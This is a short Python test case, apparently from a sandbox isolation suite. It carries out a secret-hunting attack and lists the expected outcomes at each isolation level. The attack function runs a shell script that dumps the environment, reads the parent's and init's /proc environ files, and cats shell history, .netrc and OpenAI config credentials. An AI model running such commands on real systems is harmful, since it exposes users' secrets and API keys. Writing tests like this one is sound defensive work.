# ATTACK: spawn `sh -c` to look for secrets with shell tools: the environment, the parent's
#   environment, the shell history and credentials in the home folder.
# EXPECT: status=ok reason="^$"
# EXPECT[none]: status=ok breach=leak -- plain subprocess level: the parent's /proc entry is
#   readable (it inherited the engine's environment)
import subprocess


def attack(ctx):
    script = ('env; cat /proc/$PPID/environ /proc/1/environ 2>/dev/null | tr "\\0" "\\n"; '
              'cat ~/.bash_history ~/.netrc ~/.config/openai/* 2>/dev/null; echo done')
    out = subprocess.run(["sh", "-c", script], capture_output=True, text=True, timeout=5)
    print(out.stdout)
    return 0.5
